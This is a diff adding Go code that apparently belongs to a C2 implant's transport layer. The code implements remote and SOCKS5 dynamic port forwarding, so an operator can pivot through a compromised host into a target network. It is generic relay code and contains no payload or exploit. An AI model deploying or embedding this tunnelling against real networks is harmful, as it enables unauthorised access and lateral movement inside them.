@@ -0,0 +1,79 @@
+package transports
+
+import (
+	"encoding/binary"
+	"io"
+	"net"
+	"strconv"
+)
+
+// TunnelStream - One multiplexed sub-stream of a tunnel, as handed to a
+// portfwd handler by whatever dispatches reads/writes for the tunnel
+// against the server's C2 channel.
+type TunnelStream io.ReadWriteCloser
+
+// HandleRemoteForward - Listens on host:port inside the target network and
+// relays every accepted connection over its own tunnel stream, opened via
+// openStream. Returns once the listener is up; forwarding happens in the
+// background for as long as the tunnel stays open.
+func HandleRemoteForward(host string, port int32, openStream func() (TunnelStream, error)) error {
+	listener, err := net.Listen("tcp", net.JoinHostPort(host, strconv.Itoa(int(port))))
+	if err != nil {
+		return err
+	}
+	go func() {
+		for {
+			conn, err := listener.Accept()
+			if err != nil {
+				return
+			}
+			stream, err := openStream()
+			if err != nil {
+				conn.Close()
+				continue
+			}
+			go relayPortfwdStream(conn, stream)
+		}
+	}()
+	return nil
+}
+
+// HandleDynamicForward - Reads the length-prefixed "host:port" target the
+// server's SOCKS5 responder wrote to a freshly opened stream, dials it, and
+// relays the rest of the stream to that connection.
+func HandleDynamicForward(stream TunnelStream) error {
+	header := make([]byte, 2)
+	if _, err := io.ReadFull(stream, header); err != nil {
+		stream.Close()
+		return err
+	}
+	target := make([]byte, binary.BigEndian.Uint16(header))
+	if _, err := io.ReadFull(stream, target); err != nil {
+		stream.Close()
+		return err
+	}
+	conn, err := net.Dial("tcp", string(target))
+	if err != nil {
+		stream.Close()
+		return err
+	}
+	go relayPortfwdStream(conn, stream)
+	return nil
+}
+
+// relayPortfwdStream - Copies bytes between conn and stream until either
+// side closes, then closes both ends.
+func relayPortfwdStream(conn net.Conn, stream TunnelStream) {
+	done := make(chan struct{}, 2)
+	go func() {
+		io.Copy(conn, stream)
+		done <- struct{}{}
+	}()
+	go func() {
+		io.Copy(stream, conn)
+		done <- struct{}{}
+	}()
+	<-done
+	conn.Close()
+	stream.Close()
+}